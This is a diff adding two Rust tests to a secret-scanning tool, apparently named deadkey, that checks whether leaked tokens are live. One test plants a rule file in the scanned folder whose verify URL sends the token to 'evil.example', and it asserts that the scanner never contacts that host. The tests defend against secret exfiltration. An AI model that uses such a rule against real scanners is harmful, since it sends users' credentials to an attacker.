@@ -267,6 +267,60 @@ fn a_pull_request_cannot_send_a_token_elsewhere() {
 }
 
 #[test]
+fn the_host_beside_a_token_tells_whose_instance_it_is() {
+    let tail = String::from_utf8(Rng::new(23).text(secrets::BASE62, 20)).expect("ASCII");
+    let (token, gitlab) = (github(24), format!("gl{}-{tail}", "pat"));
+    let double = Double::start(|received| match received.target.starts_with("/user") {
+        true => Reply::json(401, r#"{"message":"Bad credentials"}"#),
+        false => Reply::json(401, r#"{"message":"401 Unauthorized"}"#),
+    });
+    let folder = tempfile::tempdir().expect("a folder");
+    let lines = format!(
+        "git clone https://{token}@github.com/acme/app\ngit clone https://oauth2:{gitlab}@code.corp.example/acme/app\n"
+    );
+    fs::write(folder.path().join("a.sh"), lines).expect("written");
+    let own = format!("gitlab={}", double.url());
+    let arguments =
+        ["scan", ".", "--verify", "--verify-endpoint", &own, "--verify-endpoint", &at(&double), "-f", "jsonl"];
+    let run = deadkey(folder.path(), &arguments);
+    let verdict = |rule: &str| {
+        let lines = run.json_lines();
+        let line = lines.iter().find(|line| line["rule"].as_str().is_some_and(|id| id.starts_with(rule)));
+        line.unwrap_or_else(|| panic!("no {rule}: {}", run.stdout))["verdict"].clone()
+    };
+    assert_eq!(verdict("github")["state"], "dead", "the endpoint stands in for the provider: {}", run.stdout);
+    let wrong = verdict("gitlab");
+    assert!(
+        wrong["state"] == "unknown" && wrong["why"].as_str().is_some_and(|w| w.contains("code.corp.example")),
+        "{wrong}"
+    );
+    let plan = deadkey(folder.path(), &["scan", ".", "--verify-dry-run"]);
+    assert!(plan.stderr.contains("https://gitlab.com/api/v4/personal_access_tokens/self"), "{}", plan.stderr);
+}
+
+#[test]
+fn a_rule_of_the_scanned_tree_sends_nothing_anywhere() {
+    let double = Double::start(|_| Reply::json(200, r#"{"ok":true}"#));
+    let folder = tempfile::tempdir().expect("a folder");
+    let token = github(22);
+    let rules = "provider = \"Evil\"\n[[rule]]\nid = \"github-pat-classic\"\nname = \"x\"\nseverity = \"high\"\n\
+                 shape = 'ghp_[0-9A-Za-z]{36}'\n[rule.verify]\nmethod = \"GET\"\nurl = \"https://evil.example/{secret}\"\nlive = [200]\n";
+    fs::write(folder.path().join("evil.toml"), rules).expect("written");
+    fs::write(folder.path().join(".deadkey.toml"), "[rules]\nfiles = [\"evil.toml\"]\n").expect("written");
+    fs::write(folder.path().join("a.env"), format!("GITHUB_TOKEN={token}\n")).expect("written");
+    // Were its check to count, the double would be asked in the place of the host that it names.
+    let endpoint = format!("github-pat-classic={}", double.url());
+    let run = deadkey(folder.path(), &["scan", "a.env", "--verify", "--verify-endpoint", &endpoint, "-f", "jsonl"]);
+    assert_eq!(double.connections(), 0, "{}", run.stderr);
+    let why = &run.json_lines()[0]["verdict"]["why"];
+    assert!(why.as_str().is_some_and(|why| why.contains("no check is known")), "{why}");
+    // Named on the command line, it counts.
+    let arguments = ["scan", "a.env", "--no-config", "--rules", "evil.toml", "--verify-dry-run"];
+    let run = deadkey(folder.path(), &arguments);
+    assert!(run.stderr.contains("GET https://evil.example/<secret>"), "{}", run.stderr);
+}
+
+#[test]
 fn the_users_own_registry_is_asked() {
     let token = format!("npm_{}", &github(19)[4..]);
     let live = token.clone();
